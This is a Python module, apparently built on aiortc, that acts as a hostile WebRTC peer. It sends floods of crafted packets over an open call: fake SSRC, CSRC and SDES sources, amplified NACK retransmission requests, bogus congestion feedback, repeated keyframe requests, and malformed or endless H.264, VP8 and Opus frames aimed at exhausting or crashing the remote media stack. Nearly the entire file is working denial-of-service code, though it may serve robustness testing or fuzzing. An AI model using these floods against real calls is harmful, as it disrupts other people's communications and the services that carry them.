"""RTP and RTCP packets of a hostile peer."""

import asyncio
import random
import re
import struct
from collections.abc import Iterator
from dataclasses import dataclass

from aiortc import RTCPeerConnection
from aiortc.rtcrtpreceiver import StreamStatistics
from aiortc.rtp import RtpPacket

# A receiver accepts a source only after a few consecutive packets (RFC 3550, A.1).
PACKETS_OF_EACH = 5
PAYLOAD = bytes([0x10, 0x01, 0x00, 0x00]) + bytes(60)
# The maximum numbers of sources in one packet (RFC 3550, 5.1 and 6.5).
CSRCS_OF_A_PACKET, CHUNKS_OF_A_PACKET, PACKETS_OF_A_COMPOUND = 15, 31, 4


# The entries of a NACK that fits into the MTU, and the packets that each one requests (RFC 4585, 6.2.1).
ENTRIES_OF_A_NACK, PACKETS_OF_AN_ENTRY = 300, 17
# The number of reports of arrivals that fit into the MTU.
REPORTS_OF_A_COMPOUND = 30


# The number of a header extension.
EXTENSION = 9
# The NAL units of a frame that is parsed anew for each of them, and the content of a packet with a part of it.
REPEATED_UNITS, CONTENT_OF_A_PACKET = 20_000, 1150

# The NAL units of one H.264 packet, of one byte each: supplemental enhancement information.
UNITS_OF_A_PACKET = 400


@dataclass
class Target:
    """A call to flood: the payload type of its video or audio, our SSRC of it, theirs, and the last packet.

    `heard` counts the packets of theirs.
    """

    payload_type: int
    own: int
    theirs: int
    last: RtpPacket | None = None
    heard: StreamStatistics | None = None

    def packet(self, ssrc: int, number: int, payload: bytes = PAYLOAD, marker: int = 1) -> RtpPacket:
        return RtpPacket(self.payload_type, marker, (1000 + number) % 2**16, 3000 * number, ssrc, payload)

    def report(self, *packets: bytes) -> bytes:
        """Returns a compound packet that begins with an empty receiver report."""
        return struct.pack("!BBHI", 0x80, 201, 1, self.own) + b"".join(packets)


def random_sources(count: int) -> list[int]:
    return random.Random(7).sample(range(1, 2**32), count)


def ssrcs(target: Target, count: int) -> Iterator[bytes]:
    """Yields some RTP packets of each SSRC."""
    for number in range(PACKETS_OF_EACH):
        for ssrc in random_sources(count):
            yield target.packet(ssrc, number).serialize()


def csrcs(target: Target, count: int) -> Iterator[bytes]:
    """Yields RTP packets of the first SSRC with the other SSRCs as contributing sources."""
    ssrc, *others = random_sources(count)
    for number in range(PACKETS_OF_EACH):
        yield target.packet(ssrc, number).serialize()
    for number, start in enumerate(range(0, len(others), CSRCS_OF_A_PACKET), PACKETS_OF_EACH):
        packet = target.packet(ssrc, number)
        packet.csrc = others[start : start + CSRCS_OF_A_PACKET]
        yield packet.serialize()


def descriptions(target: Target, count: int) -> Iterator[bytes]:
    """Yields RTCP source descriptions without items for all SSRCs."""
    sources = random_sources(count)
    compound = b""
    for number, start in enumerate(range(0, len(sources), CHUNKS_OF_A_PACKET), 1):
        chunks = [struct.pack("!II", ssrc, 0) for ssrc in sources[start : start + CHUNKS_OF_A_PACKET]]
        compound += struct.pack("!BBH", 0x80 | len(chunks), 202, 2 * len(chunks)) + b"".join(chunks)
        if number % PACKETS_OF_A_COMPOUND == 0:
            yield target.report(compound)
            compound = b""


def requests(target: Target, count: int) -> Iterator[bytes]:
    """Yields RTCP requests for a sender report (RFC 6051)."""
    for _ in range(count):
        yield target.report(struct.pack("!BBHII", 0x80 | 5, 205, 2, target.own, target.theirs))


def nacks(target: Target, count: int) -> Iterator[bytes]:
    """Yields requests for the latest packets of their video, each packet hundreds of times."""
    for _ in range(count):
        latest = target.heard.max_seq - PACKETS_OF_AN_ENTRY + 1
        numbers = [latest - PACKETS_OF_AN_ENTRY * (index % 10) for index in range(ENTRIES_OF_A_NACK)]
        entries = b"".join(struct.pack("!HH", number % 2**16, 0xFFFF) for number in numbers)
        head = struct.pack("!BBHII", 0x80 | 1, 205, 2 + ENTRIES_OF_A_NACK, target.own, target.theirs)
        yield target.report(head, entries)


def arrivals(target: Target, count: int) -> Iterator[bytes]:
    """Yields transport-wide feedback: reports of 65,535 packets that have not arrived, of 40 bytes each."""
    chunks = struct.pack("!9H", *[0x1FFF] * 8, 7)
    for number in range(0, count * REPORTS_OF_A_COMPOUND, REPORTS_OF_A_COMPOUND):
        yield target.report(*(
            struct.pack("!BBHIIHH3xB", 0x80 | 15, 205, 9, target.own, target.theirs, 0, 65535, (number + index) % 256)
            + chunks + bytes(2)
            for index in range(REPORTS_OF_A_COMPOUND)))


def pictures(target: Target, count: int) -> Iterator[bytes]:
    """Yields requests for a keyframe."""
    for _ in range(count):
        yield target.report(struct.pack("!BBHII", 0x80 | 1, 206, 2, target.own, target.theirs))


def data(_target: Target, count: int) -> Iterator[bytes]:
    """Yields application data for DTLS, which no data channel was agreed on for."""
    yield from [b"hello"] * count


def units(target: Target, count: int) -> Iterator[bytes]:
    """Yields packets of one H.264 frame without end, with many tiny NAL units in each (STAP-A, RFC 6184 5.7.1)."""
    payload = bytes([24]) + struct.pack("!HB", 1, 6) * UNITS_OF_A_PACKET
    for number in range(count):
        packet = target.packet(target.own, number, payload, marker=0)
        # SRTP accepts no number twice, and the packets of a frame have the same time.
        packet.sequence_number = (target.last.sequence_number + 1 + number) % 2**16
        packet.timestamp = (target.last.timestamp + 3000) % 2**32
        yield packet.serialize()


def jumps(target: Target, count: int) -> Iterator[bytes]:
    """Yields packets whose sequence numbers jump by thousands."""
    number, stamp = target.last.sequence_number, target.last.timestamp
    chance = random.Random(7)
    for index in range(count):
        number += chance.choice([1, 2, 100, 3000, 20000, 30000]) if index % 3 == 0 else 1
        stamp += chance.choice([0, 90, 3000])
        packet = target.packet(target.own, 0)
        packet.sequence_number, packet.timestamp = number % 2**16, stamp % 2**32
        yield packet.serialize()


def frames(target: Target, count: int) -> Iterator[bytes]:
    """Yields frames of VP8 that no decoder can read: each of one packet, which is shorter than its first partition."""
    return continued(target, count, b"\x10" + b"\xf1\xff\xff" + bytes(1100), 3000)


def sounds(target: Target, count: int) -> Iterator[bytes]:
    """Yields packets of Opus that no decoder can read: with any number of frames, which is 0."""
    return continued(target, count, b"\xfb\x00" + bytes(1100), 960)


def extensions(target: Target, count: int) -> Iterator[bytes]:
    """Yields packets with a header extension of one byte, where eight are needed."""
    extension = bytes.fromhex("bede0001") + bytes([EXTENSION << 4, 0, 0, 0])
    for packet in continued(target, count, PAYLOAD, 3000):
        yield bytes([packet[0] | 0x10]) + packet[1:12] + extension + packet[12:]


def reparsed(target: Target, count: int) -> Iterator[bytes]:
    """Yields frames of H.264 with thousands of tiny units, and a damaged one at their end (FU-A, RFC 6184 5.8)."""
    kind, nal = 12, b"\x00\x00\x01"
    content = b"\xff" + (nal + bytes([kind]) + b"\xff") * REPEATED_UNITS + nal + b"\x68\xc0"
    parts = [content[at : at + CONTENT_OF_A_PACKET] for at in range(0, len(content), CONTENT_OF_A_PACKET)]
    number = target.last.sequence_number
    for frame in range(1, count + 1):
        for index, part in enumerate(parts):
            ends = 0x80 * (index == 0) | 0x40 * (index == len(parts) - 1)
            packet = target.packet(target.own, 0, bytes([0x7C, ends | kind]) + part, marker=int(ends & 0x40 > 0))
            number += 1
            packet.sequence_number = number % 2**16
            packet.timestamp = (target.last.timestamp + frame * 3000) % 2**32
            yield packet.serialize()


def continued(target: Target, count: int, payload: bytes, interval: int) -> Iterator[bytes]:
    """Yields packets with this payload after those that were sent before, each of them at another time."""
    for number in range(1, count + 1):
        packet = target.packet(target.own, 0, payload)
        packet.sequence_number = (target.last.sequence_number + number) % 2**16
        packet.timestamp = (target.last.timestamp + number * interval) % 2**32
        yield packet.serialize()


# Kinds that go on with the packets of our media instead of it, and the one of them that goes on with audio.
CONTINUATIONS = {
    "units": units, "jumps": jumps, "frames": frames, "sounds": sounds, "extensions": extensions,
    "reparsed": reparsed,
}
HEARD = "sounds"
KINDS = {
    "ssrcs": ssrcs, "csrcs": csrcs, "descriptions": descriptions, "requests": requests, "nacks": nacks,
    "arrivals": arrivals, "pictures": pictures, "data": data, **CONTINUATIONS,
}


async def flood(connection: RTCPeerConnection, kind: str, count: int) -> None:
    """Sends `count` items of a kind, without the media that was sent before if they use its SSRC."""
    media = "audio" if kind == HEARD else "video"
    sender = next(sender for sender in connection.getSenders() if sender.kind == media)
    if kind in CONTINUATIONS:
        sender.replaceTrack(None)
        await asyncio.sleep(0.1)
    # What arrived of each SSRC, for which aiortc has no public API; nothing if they send nothing.
    # A receiver has no track if they send nothing.
    [transceiver] = (one for one in connection.getTransceivers() if one.kind == media)
    streams = transceiver.receiver._RTCRtpReceiver__remote_streams
    theirs = max(streams, key=lambda ssrc: streams[ssrc].packets_received, default=0)
    sent = sender._RTCRtpSender__rtp_history.values()
    last = max(sent, key=lambda packet: packet.timestamp, default=None)
    offered = re.search(rf"m={media} \d+ \S+ (\d+)", connection.localDescription.sdp)[1]
    target = Target(
        payload_type=last.payload_type if last else int(offered),
        own=sender._ssrc,
        theirs=theirs,
        last=last,
        heard=streams.get(theirs),
    )
    send = sender.transport._send_data if kind == "data" else sender.transport._send_rtp
    for index, packet in enumerate(KINDS[kind](target, count)):
        await send(packet)
        if index % 50 == 49:
            await asyncio.sleep(0.01)
